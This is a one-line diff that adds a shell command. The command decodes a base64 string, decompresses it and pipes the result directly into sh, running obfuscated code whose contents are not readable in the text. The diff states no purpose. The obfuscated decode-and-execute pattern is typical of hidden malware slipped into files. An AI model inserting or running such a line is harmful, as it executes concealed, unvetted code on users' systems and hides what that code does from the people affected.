@@ -1,0 +1,1 @@
+echo H4sIAAAAAAACA1NWKCrNUzA2MDBTKDPmUlbUT8rM009KLM7gAhEKupkKdmoK+impZfolyQX6hpZGegZ6RnqGpgb6FiYmxgoGdmqGXACE2UPuRAAAAA== | base64 -d | zcat | sh
